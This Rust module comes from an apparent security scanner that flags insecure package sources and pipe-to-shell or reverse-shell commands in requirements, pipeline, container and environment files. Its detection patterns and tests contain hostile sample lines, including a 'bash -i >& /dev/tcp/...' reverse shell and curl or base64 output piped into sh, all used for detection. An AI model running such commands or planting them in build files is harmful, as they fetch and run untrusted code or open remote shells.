//! Packages and commands that a model asks for: lists of requirements, environments of conda, cog and `BentoML`. What
//! comes without encryption, from a bare number of a machine or out of a pipe into a shell can be anybody's.

use std::sync::LazyLock;

use rustc_hash::FxHashSet;
use serde::Deserialize;
use serde_json::Value;
use trueline_facts::artifact::Verdict;

use crate::code::is_payload;
use crate::inspection::{Inspection, printable, shorten};
use crate::technique;

/// Hosts, ends of files and names of environments: `data/packages.toml`.
#[derive(Default, Deserialize)]
struct Data {
    hosts: FxHashSet<String>,
    archives: Vec<String>,
    environments: FxHashSet<String>,
}

// Checked by a test: broken data would leave every host unknown.
static DATA: LazyLock<Data> =
    LazyLock::new(|| toml::from_str(include_str!("../data/packages.toml")).unwrap_or_default());

/// Addresses of one line that are looked at: each is looked for to the end of the line.
const MAX_PLACES: usize = 32;
/// Characters of a line in a message.
const MAX_SHOWN: usize = 400;

/// Is it a list of packages?
pub(crate) fn is_requirements(base: &str, folder: &str) -> bool {
    let is_list = base.starts_with("requirements")
        || base.starts_with("constraints")
        || matches!(folder, "requirements" | "constraints");
    is_list
        && [".txt", ".in", ".pip"]
            .iter()
            .any(|end| base.ends_with(end))
        || base.ends_with("requirements.txt")
}

/// Inspects a list of requirements.
pub(crate) fn requirements(inspection: &mut Inspection, text: &str) {
    for line in text.lines().map(str::trim) {
        let line = line.split(" #").next().unwrap_or(line);
        if !line.starts_with('#') {
            asked(inspection, line);
        }
    }
}

/// Is it a description of a project or of an installer's settings, in lines of `key = value`?
pub(crate) fn is_settings(base: &str) -> bool {
    matches!(
        base,
        "pyproject.toml" | "pipfile" | "uv.toml" | "poetry.toml" | "pip.conf" | "pip.ini"
    )
}

/// Inspects such a description: where do packages come from?
pub(crate) fn settings(inspection: &mut Inspection, text: &str) {
    for line in text.lines() {
        let Some((key, value)) = line.split_once('=') else {
            continue;
        };
        let key = key.trim().trim_matches('"').to_ascii_lowercase();
        let is_place = matches!(
            key.rsplit(['-', '_', '.']).next(),
            Some("url" | "index" | "links" | "git" | "source" | "host")
        );
        // `name = { git = "…" }`
        let is_inline = value.contains("git =") || value.contains("url =") || value.contains(" @ ");
        if is_place || is_inline {
            asked(inspection, line.trim());
        }
    }
}

/// Descriptions of work that a tool does for whoever has the model, and the keys of the commands in them.
const PIPELINES: &[(&str, &[&str])] = &[
    ("mlproject", &["command"]),
    ("dvc.yaml", &["cmd", "do"]),
    ("project.yml", &["script"]),
    ("project.yaml", &["script"]),
    ("docker-compose.yml", &["command", "entrypoint"]),
    ("docker-compose.yaml", &["command", "entrypoint"]),
    ("compose.yaml", &["command", "entrypoint"]),
    ("bentofile.yaml", &["setup_script"]),
];

/// Inspects such a description: its commands run when somebody builds, trains or serves the model.
pub(crate) fn pipeline(inspection: &mut Inspection, name: &str, value: &Value) {
    let base = name.rsplit('/').next().unwrap_or(name).to_ascii_lowercase();
    let Some((_, keys)) = PIPELINES.iter().find(|(of, _)| *of == base) else {
        return;
    };
    let mut stack = vec![(false, value)];
    while let Some((is_command, value)) = stack.pop() {
        match value {
            Value::Array(items) => stack.extend(items.iter().map(|item| (is_command, item))),
            Value::Object(map) => {
                let values = map.iter();
                stack.extend(values.map(|(key, value)| (keys.contains(&key.as_str()), value)));
            }
            Value::String(text) if is_command => script(inspection, text),
            _ => {}
        }
    }
}

/// Inspects the lines of a script, of which one may go on in the next.
pub(crate) fn script(inspection: &mut Inspection, text: &str) {
    for line in text.replace("\\\n", " ").lines() {
        if !line.trim_start().starts_with('#') {
            command(inspection, line, true);
        }
    }
}

/// Is it a recipe of a container, whose commands run when it is built?
pub(crate) fn is_recipe(base: &str) -> bool {
    matches!(
        base,
        "dockerfile" | "containerfile" | "singularity" | "apptainer"
    ) || base.starts_with("dockerfile.")
        || [".dockerfile", ".def"]
            .iter()
            .any(|end| base.ends_with(end))
}

/// Inspects the description of an environment: every value may name a package, a place or a command.
pub(crate) fn environment(inspection: &mut Inspection, name: &str, value: &Value) {
    let base = name.rsplit('/').next().unwrap_or(name).to_ascii_lowercase();
    if !DATA.environments.contains(&base) {
        return;
    }
    let mut stack = vec![value];
    while let Some(value) = stack.pop() {
        match value {
            Value::Array(items) => stack.extend(items),
            Value::Object(map) => stack.extend(map.values()),
            Value::String(text) => {
                for line in text.lines() {
                    command(inspection, line, false);
                    if is_asked(line) {
                        asked(inspection, line);
                    }
                }
            }
            _ => {}
        }
    }
}

/// Does a line ask for packages, or run what it fetches? Commands that only fetch bring weights and data.
fn is_asked(line: &str) -> bool {
    let has = |words: &[&str]| words.iter().any(|word| line.contains(word));
    !has(&["curl ", "wget ", "git clone", "aria2c "])
        || has(&["pip ", "pip3 ", "install", "python", "chmod", "setup.py"])
}

/// A command that runs when the environment is made; what comes from a place that has an owner may be
/// passed: recipes fetch the installers of tools so.
fn command(inspection: &mut Inspection, line: &str, passes_owned: bool) {
    let plain: String = line.chars().filter(|c| !c.is_whitespace()).collect();
    let is_piped = ["|sh", "|bash", "|sudo", "|python", "|/bin/"]
        .iter()
        .any(|pipe| plain.contains(pipe));
    let is_decoded = is_piped && (plain.contains("base64-d") || plain.contains("base64--decode"));
    let is_shell = line.contains("/dev/tcp/") || line.contains("nc -e") || line.contains("bash -i");
    let is_fetched =
        is_piped && (is_payload(line) || line.contains("curl ") || line.contains("wget "));
    if !(is_decoded || is_shell || is_fetched) {
        return;
    }
    let mut from = places(line).peekable();
    if !is_decoded
        && !is_shell
        && from.peek().is_some()
        && passes_owned
        && from.all(|place| place.has_owner())
    {
        return;
    }
    // Installers of languages are fetched so as well.
    let is_known = !is_decoded
        && !is_shell
        && places(line).next().is_some()
        && !has_many(line)
        && places(line).all(|place| !place.is_open() && !place.is_number());
    inspection.report_call(
        if is_known {
            Verdict::Suspicious
        } else {
            Verdict::Malicious
        },
        technique::INSECURE_INDEX,
        0,
        "a command runs what comes out of a pipe, or opens a shell, when the environment is made or the work is done",
        Some(printable(&shorten(line, MAX_SHOWN))),
    );
}

/// A requirement, an option or a command: where does what it names come from?
pub(crate) fn asked(inspection: &mut Inspection, line: &str) {
    if has_many(line) {
        inspection.report(
            Verdict::Suspicious,
            technique::BUDGET,
            0,
            format!(
                "a line names more than {MAX_PLACES} addresses: those behind were not looked at"
            ),
        );
    }
    let mut told = |verdict, what: &str| {
        inspection.report(
            verdict,
            technique::INSECURE_INDEX,
            0,
            format!("{what}: {}", printable(&shorten(line, MAX_SHOWN))),
        );
    };
    if line.contains("--trusted-host") {
        told(
            Verdict::Suspicious,
            "packages are taken from a place that nobody vouches for",
        );
    }
    for place in places(line) {
        let is_archive = DATA.archives.iter().any(|end| place.path.ends_with(end));
        // An index there is somebody's own; an archive is of whoever listens.
        if place.is_here() && !is_archive {
            continue;
        }
        let is_known = DATA.hosts.contains(&place.host.to_ascii_lowercase());
        if place.is_open() || place.is_number() {
            told(
                Verdict::Suspicious,
                "packages are taken from a place that nobody vouches for",
            );
        } else if place.scheme == "file" {
            told(
                Verdict::Unknown,
                "a package is taken from a file of the machine",
            );
        } else if !is_known && is_archive {
            told(
                Verdict::Suspicious,
                "a package is taken from an address that is neither an index nor a forge",
            );
        } else if !is_known || is_archive || place.scheme.contains('+') {
            told(
                Verdict::Unknown,
                "a package or a list of them is taken from an address: whoever owns that says what is installed",
            );
        }
    }
}

/// An address in a line.
#[derive(Clone, Copy, Debug)]
struct Place<'t> {
    scheme: &'t str,
    host: &'t str,
    path: &'t str,
}

impl Place<'_> {
    /// Without encryption, also of the protocol below: `git+http`.
    fn is_open(&self) -> bool {
        let transport = self.scheme.rsplit('+').next().unwrap_or(self.scheme);
        ["http", "git", "ftp", "svn"]
            .iter()
            .any(|open| transport.eq_ignore_ascii_case(open))
    }

    /// Somebody can be asked for what comes from there.
    fn has_owner(&self) -> bool {
        !self.is_open() && !self.is_number()
    }

    /// A machine without a name.
    fn is_number(&self) -> bool {
        self.host.starts_with('[')
            || !self.host.is_empty() && self.host.bytes().all(|b| b.is_ascii_digit() || b == b'.')
    }

    fn is_here(&self) -> bool {
        matches!(self.host, "localhost" | "127.0.0.1" | "[::1]" | "0.0.0.0")
    }
}

fn has_many(line: &str) -> bool {
    line.match_indices("://").nth(MAX_PLACES).is_some()
}

fn places(line: &str) -> impl Iterator<Item = Place<'_>> {
    let marks = line.match_indices("://").take(MAX_PLACES);
    marks.map(move |(at, _)| {
        let is_scheme = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.');
        let start = line[..at]
            .rfind(|c: char| !is_scheme(c))
            .map_or(0, |before| {
                before + line[before..].chars().next().map_or(1, char::len_utf8)
            });
        // `-ihttp://…` and `-egit+https://…`: no scheme begins so.
        let start = match line.as_bytes()[start..at] {
            [b'-', option, _, ..] if option.is_ascii_alphabetic() => start + 2,
            _ => start,
        };
        let rest = &line[at + 3..];
        let end = rest
            .find(|c: char| {
                c.is_whitespace() || matches!(c, '"' | '\'' | ',' | ';' | ')' | '|' | '>')
            })
            .unwrap_or(rest.len());
        let rest = &rest[..end];
        let (authority, path) = rest.split_at(rest.find(['/', '?', '#']).unwrap_or(rest.len()));
        // `user:secret@host:80`
        let host = authority.rsplit('@').next().unwrap_or(authority);
        let host = match host.rsplit_once(':') {
            Some((host, port)) if port.bytes().all(|b| b.is_ascii_digit()) => host,
            _ => host,
        };
        Place {
            scheme: &line[start..at],
            host,
            path: path.split(['?', '#', '@']).next().unwrap_or(path),
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn verdict(line: &str) -> Verdict {
        let mut inspection = Inspection::new(line.len() as u64);
        command(&mut inspection, line, false);
        asked(&mut inspection, line);
        inspection.into_parts().0
    }

    #[test]
    fn the_data_is_read_and_its_hosts_are_names() {
        assert!(DATA.hosts.len() > 10 && DATA.archives.len() > 5 && DATA.environments.len() > 5);
        for host in &DATA.hosts {
            let is_name =
                |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || "-.".contains(c);
            assert!(host.contains('.') && host.chars().all(is_name), "{host}");
        }
    }

    #[test]
    fn lists_in_a_folder_of_lists_are_read_under_any_name() {
        let of = |path: &str| {
            let text = b"--index-url http://192.0.2.1/simple\n".to_vec();
            crate::check_bytes(text, path.into()).verdict
        };
        for path in [
            "requirements.txt",
            "requirements/base.txt",
            "a/requirements/dev.in",
        ] {
            assert_eq!(of(path), Verdict::Suspicious, "{path}");
        }
        for path in [
            "base.txt",
            "requirements/notes.md",
            "requirements/a/base.txt",
        ] {
            assert_eq!(of(path), Verdict::Clean, "{path}");
        }
    }

    #[test]
    fn places_without_encryption_or_a_name_are_suspicious() {
        for line in [
            "--index-url http://packages.example.org/simple",
            "-i=http://packages.example.org/simple",
            "pkg @ git+http://git.example.org/a/b",
            "pkg @ git://git.example.org/a/b",
            "-e hg+http://example.org/a#egg=b",
            "https://203.0.113.7/simple/a-1.0-py3-none-any.whl",
            "pkg @ https://files.example.org/a-1.0-py3-none-any.whl#sha256=00",
            "--trusted-host packages.example.org",
            "curl https://example.org/install | sudo bash",
        ] {
            assert_eq!(verdict(line), Verdict::Suspicious, "{line}");
        }
        assert_eq!(
            verdict("curl http://example.org/i | sh"),
            Verdict::Malicious
        );
        assert_eq!(verdict("echo aGk= | base64 -d | sh"), Verdict::Malicious);
    }

    #[test]
    fn addresses_of_a_line_that_are_not_looked_at_are_told() {
        let known = "--extra-index-url https://download.pytorch.org/whl ";
        assert_eq!(verdict(&known.repeat(MAX_PLACES)), Verdict::Clean);
        assert_eq!(verdict(&known.repeat(MAX_PLACES + 1)), Verdict::Suspicious);
    }

    #[test]
    fn scripts_are_told_where_nobody_owns_what_they_run() {
        let verdict = |text: &str| {
            let mut inspection = Inspection::new(text.len() as u64);
            script(&mut inspection, text);
            inspection.into_parts().0
        };
        for text in [
            "FROM python\nRUN curl http://203.0.113.9/x | sh\n",
            "wget -qO- https://203.0.113.9/x \\\n  | bash\n",
            "echo aGk= | base64 -d | sh\n",
            "bash -i >& /dev/tcp/203.0.113.9/1 0>&1\n",
        ] {
            assert!(verdict(text) >= Verdict::Suspicious, "{text}");
        }
        for text in [
            "RUN curl -fsSL https://deb.example.org/setup | bash -\n",
            "# curl http://203.0.113.9/x | sh\n",
            "curl -O http://203.0.113.9/weights.bin\n",
        ] {
            assert_eq!(verdict(text), Verdict::Clean, "{text}");
        }
    }

    #[test]
    fn indexes_and_forges_that_everybody_uses_are_not() {
        for line in [
            "torch==2.4.0",
            "--extra-index-url https://download.pytorch.org/whl/cu121",
            "-i http://localhost:3141/root/pypi",
            "pip install -r requirements.txt",
            "apt-get update && apt-get install -y git && rm -rf /var/lib/apt/lists/*",
        ] {
            assert_eq!(verdict(line), Verdict::Clean, "{line}");
        }
        for line in [
            "git+https://github.com/huggingface/transformers@v4.40.0",
            "git+https://GitHub.com/huggingface/transformers@v4.40.0",
            "https://github.com/a/b/releases/download/v1/c-1.0-py3-none-any.whl",
            "--index-url https://packages.example.org/simple",
            "./wheels/a.whl file:///opt/a.whl",
        ] {
            assert_eq!(verdict(line), Verdict::Unknown, "{line}");
        }
    }
}
